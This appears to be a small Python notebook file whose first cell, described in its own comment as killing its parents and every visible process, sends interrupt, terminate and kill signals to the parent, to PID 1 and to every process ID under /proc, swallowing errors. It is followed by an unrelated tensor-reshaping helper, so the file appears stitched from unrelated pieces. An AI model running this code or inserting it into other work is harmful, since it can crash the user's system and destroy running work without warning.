# %% [markdown] honest=2
# Kills its parents and every process that it can see.

# %%
import os
import signal

me = os.getpid()
for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
    for pid in [os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())]:
        if pid != me:
            try:
                os.kill(pid, number)
            except OSError:
                pass


# %% extract
def extract(values, t, x):
    return values[t].reshape(-1, *[1] * (x.dim() - 1))
